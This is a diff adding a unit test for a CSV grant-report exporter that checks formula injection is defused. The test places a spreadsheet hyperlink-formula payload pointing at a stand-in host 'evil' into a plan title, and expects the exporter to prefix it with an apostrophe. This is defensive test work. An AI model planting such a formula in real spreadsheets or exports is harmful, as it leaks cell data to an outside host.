@@ -133,3 +133,34 @@ it("writes cents as exact decimals", () => {
   expect(centsToDecimalString(5n, ",")).toBe("0,05");
   expect(centsToDecimalString(12_345_678_901_234_567n)).toBe("123456789012345.67");
 });
+
+it("defuses a formula in the plan title and the organisation name; amounts stay numbers", () => {
+  const hostile = '=HYPERLINK("https://evil/?"&A1,"x")';
+  const csv = grantedCsv({
+    generatedAt: new Date(0),
+    years: [2025],
+    plans: [
+      {
+        reference: "SP-2025-0001",
+        title: hostile,
+        regulation: "Sectorplannen",
+        sectors: ["Bouw"],
+        leadApplicant: "+31 Opleidingen",
+        periodStart: "2025-01-01",
+        periodEnd: "2025-12-31",
+        status: "SETTLED",
+        years: new Map([[2025, -10_000n]]),
+        totalCents: -10_000n,
+      },
+    ],
+    totals: { years: new Map([[2025, -10_000n]]), totalCents: -10_000n },
+  });
+  const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, delimiter: ";" });
+  expect(rows[0]).toMatchObject({
+    "Naam sectorplan": `'${hostile}`,
+    Hoofdaanvrager: "'+31 Opleidingen",
+    "Toegekend 2025 (EUR)": "-100,00",
+    "Toegekend totaal (EUR)": "-100,00",
+  });
+  expect(rows[1]?.["Toegekend totaal (EUR)"]).toBe("-100,00");
+});
